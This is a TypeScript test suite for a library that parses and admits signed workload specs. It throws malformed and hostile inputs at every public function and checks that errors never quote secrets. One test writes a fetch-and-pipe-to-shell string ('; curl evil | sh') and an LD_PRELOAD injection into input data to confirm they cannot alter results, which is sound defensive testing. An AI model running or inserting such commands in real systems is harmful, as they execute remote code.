/**
 * What no caller should pass, to every function of the workload side.
 *
 * An object whose getter throws, or a proxy whose trap does, is left out: what a caller's
 * own code throws is the caller's. A posture, which never throws, meets those as well.
 *
 * @module
 */

import assert from "node:assert/strict";
import * as writ from "../../mod.ts";
import { assertFrozen } from "../assertions.ts";
import { dispatchedSpec, templateSpec } from "./forge_fixture.ts";
import { FULL, GRANT, R2 } from "./grant_fixture.ts";
import { admit, annotate, DOCUMENT, KEY, SEED, signed } from "./signed_fixture.ts";

/** Every function of the workload side, with arguments that it answers. */
const CALLS: readonly (readonly [(...args: never[]) => unknown, readonly unknown[]])[] = [
  [writ.parseWorkloadSpec, [writ.toJson(signed())]],
  [writ.parseGrantDocument, [DOCUMENT]],
  [writ.encodeGrantDocument, [FULL]],
  [writ.grantFromSpec, ["compiler", signed()]],
  [writ.templateMatches, ["a{{b}}", "ac"]],
  [writ.templateSegments, ["a{{b}}"]],
  [writ.holeIsSafe, ["x"]],
  [writ.covers, [FULL, signed(), { coverage: "reference" }]],
  [writ.parsePolicy, ["required"]],
  [writ.resolvePosture, [{ policy: "required", keys: KEY }]],
  [writ.admitWorkload, [{
    spec: signed(),
    policy: "required",
    trustedKeys: [KEY],
    coverage: "reference",
  }]],
  [writ.signGrant, [DOCUMENT, SEED]],
  [writ.publicKeyOf, [SEED]],
  [writ.attachGrant, [signed(), { document: DOCUMENT, signature: "s", key: "k" }]],
  [writ.imageText, [signed().image]],
  [writ.sameSecret, [R2, R2]],
  [writ.describeSecret, [R2]],
  [writ.isForgeStatePath, ["/a"]],
  [writ.materializedSecretPath, ["a", "/b"]],
  [writ.samePath, ["a", "b"]],
  [writ.lintRecipe, [templateSpec({ user: "root" })]],
];

const cycle: unknown[] = [];
cycle.push(cycle);
let deep: unknown = "x";
for (let depth = 0; depth < 50_000; depth++) deep = [deep];

/** By what they are, for the message of a failure. */
const HOSTILE: ReadonlyMap<string, unknown> = new Map<string, unknown>([
  ["undefined", undefined],
  ["null", null],
  ["a flag", true],
  ["zero", 0],
  ["minus zero", -0],
  ["NaN", NaN],
  ["a number past 2^53", 2 ** 53],
  ["a bigint", 1n],
  ["a bigint of thirty million bits", 1n << 30_000_000n],
  ["a symbol", Symbol("required")],
  ["a function", () => true],
  ["no text", ""],
  ["half of a surrogate pair", "\ud800"],
  ["a boxed text", Object("required")],
  ["a list", []],
  ["a list of holes", new Array(3)],
  ["the longest list", new Array(2 ** 32 - 1)],
  ["a list that lies about its length", lying()],
  ["a cycle", cycle],
  ["fifty thousand lists", deep],
  ["an object", {}],
  ["an object without a prototype", Object.create(null)],
  ["what inherits everything", Object.create({ spec: signed(), policy: "disabled" })],
  ["what is spelled like a text", { toString: () => "disabled", length: 1, 0: "a" }],
  ["a Map", new Map([["policy", "disabled"]])],
  ["a Set", new Set(["a"])],
  ["a Date", new Date(0)],
  ["an error", new Error("mine")],
  ["a promise", Promise.resolve(true)],
  ["bytes that are no UTF-8", Uint8Array.of(0xff)],
  ["an ArrayBuffer", new ArrayBuffer(1)],
]);

function lying(): unknown {
  return new Proxy([], {
    get: (target, key) => key === "length" ? 2 ** 50 : Reflect.get(target, key),
  });
}

/** The answer of a call, or its malformed error; anything else that is thrown fails. */
function outcome(call: (...args: never[]) => unknown, args: readonly unknown[], what: string) {
  try {
    const answer = call(...args as never[]);
    assertFrozen(answer);
    return answer;
  } catch (error) {
    if (!(error instanceof writ.MalformedError)) {
      assert.fail(`${call.name}, ${what}: ${error}`);
    }
    return error;
  }
}

type Members = Record<string, unknown>;

/** Every place of a value that has one: the names that lead to it. */
function* places(value: unknown): Iterable<readonly string[]> {
  if (typeof value !== "object" || value === null) return;
  for (const [key, member] of Object.entries(value)) {
    yield [key];
    for (const rest of places(member)) yield [key, ...rest];
  }
}

/** A copy of a value, made by hand, with something else in one place. */
function replaced(value: unknown, [key, ...rest]: readonly string[], by: unknown): unknown {
  if (key === undefined) return by;
  const copy = (Array.isArray(value) ? [...value] : { ...value as object }) as Members;
  copy[key] = replaced(copy[key], rest, by);
  return copy;
}

for (const [call, args] of CALLS) {
  Deno.test(`${call.name} answers what it should, and nothing of it can be changed`, () => {
    assertFrozen(call(...args as never[]));
  });

  Deno.test(`${call.name} takes whatever stands in the place of an argument or a member`, () => {
    for (const [index, arg] of args.entries()) {
      for (const [what, hostile] of HOSTILE) {
        outcome(call, args.with(index, hostile), `${what} as argument ${index}`);
        for (const place of places(arg)) {
          const wrong = replaced(arg, place, hostile);
          outcome(call, args.with(index, wrong), `${what} as /${place.join("/")} of ${index}`);
        }
      }
    }
  });

  Deno.test(`${call.name} knows every member of what it is asked, wherever it stands`, () => {
    for (const [index, arg] of args.entries()) {
      for (const place of [[], ...places(arg)]) {
        const object = place.reduce<unknown>((v, key) => (v as Members)[key], arg);
        // Texts have no members; annotations and labels are data; a posture never throws.
        if (typeof object !== "object" || object === null || Array.isArray(object)) continue;
        if (/^(?:annotations|labels)$/.test(place.at(-1) ?? "")) continue;
        if (call === writ.resolvePosture) continue;
        const wrong = replaced(arg, [...place, "privileged"], true);
        const error = outcome(call, args.with(index, wrong), `/${place.join("/")}/privileged`);
        assert.ok(error instanceof writ.MalformedError, `${call.name} /${place.join("/")}`);
        // An object with another member beside its variant's is no variant.
        assert.match(error.code, /^unknown_(?:field|variant)$/);
      }
    }
  });
}

Deno.test("a getter is asked once: what was judged is what was read", () => {
  const answers = ["tenant", "infra"];
  const spec = Object.defineProperty({ ...dispatchedSpec() }, "tier", {
    enumerable: true,
    get: () => answers.shift(),
  });
  const verdict = writ.covers(GRANT, spec);
  assert.equal(
    !verdict.granted && verdict.reason.code === "mismatch" && verdict.reason.field,
    "tier",
  );
  assert.deepEqual(answers, ["infra"]);
});

Deno.test("nothing that is passed is changed, and changing it afterwards changes no answer", () => {
  const parts: Record<string, unknown[]> = {
    command: [...templateSpec().command!],
    env: [{ name: "A", value: { literal: { value: "v" } } }],
  };
  const spec = { ...templateSpec(), ...parts } as writ.WorkloadSpec;
  const before = structuredClone(parts);
  const grant = writ.grantFromSpec("compiler", spec);
  const attached = writ.attachGrant(spec, { document: "d", signature: "s", key: "k" });
  const refusal = writ.covers(GRANT, spec);
  assert.deepEqual(parts, before);
  assert.equal("yah.admission.key" in spec.annotations, false);

  const answers = writ.toJson([grant, attached, refusal]);
  parts["command"]!.push("; curl evil | sh");
  Object.assign(parts["env"]![0] as object, { name: "LD_PRELOAD" });
  assert.equal(writ.toJson([grant, attached, refusal]), answers);
  assert.deepEqual(grant.env_names, ["A"]);
});

Deno.test("parts that are shared are judged wherever they stand, and written down once", () => {
  const shared = { name: "A", value: { literal: { value: "v" } } };
  const env = Array<typeof shared>(10_000).fill(shared);
  const verdict = writ.covers(GRANT, dispatchedSpec({ env }));
  assert.equal(
    !verdict.granted && verdict.also?.filter(({ code }) => code === "mismatch").length,
    9_999,
  );
});

Deno.test("no error and no reason quotes a value, a signature, a seed or a document", () => {
  const hush = "hush-".repeat(20);
  const env = [{ name: "TOKEN", value: { literal: { value: hush } } }];
  const document = writ.encodeGrantDocument({ ...GRANT, argv: [hush] });
  const signature = writ.signGrant(document, SEED);
  const outcomes = [
    outcome(writ.parseWorkloadSpec, [`${writ.toJson(dispatchedSpec({ env }))}x`], ""),
    outcome(writ.parseWorkloadSpec, [writ.toJson({ ...dispatchedSpec({ env }), x: hush })], ""),
    outcome(
      writ.parseWorkloadSpec,
      [writ.toJson({ ...dispatchedSpec({ env }), replicas: hush })],
      "",
    ),
    outcome(writ.covers, [GRANT, dispatchedSpec({ env })], ""),
    outcome(writ.covers, [GRANT, dispatchedSpec({ env }), hush], ""),
    outcome(writ.parsePolicy, [hush], ""),
    writ.resolvePosture({ policy: hush, keys: hush }).warnings,
    outcome(writ.publicKeyOf, [hush], ""),
    outcome(writ.signGrant, [document, hush], ""),
    outcome(writ.parseGrantDocument, [document + document], ""),
    outcome(writ.parseGrantDocument, [document.slice(0, -3)], ""),
    admit(signed({ document: document + "x" })),
    admit(signed({ document, seed: "08".repeat(32), key: KEY })),
    // The annotations in each other's place.
    admit(annotate(signed({ document }), { "yah.admission.key": document.repeat(9) })),
    admit(annotate(signed({ document }), { "yah.admission.signature": document })),
  ];
  for (const each of outcomes) {
    const text = each instanceof writ.MalformedError
      ? `${each.message} ${each.path} ${writ.toJson(each.facts)}`
      : writ.toJson(each);
    assert.ok(!text.includes(hush) && !text.includes(signature) && !text.includes(SEED), text);
    assert.ok(!text.includes(document), text);
  }
});
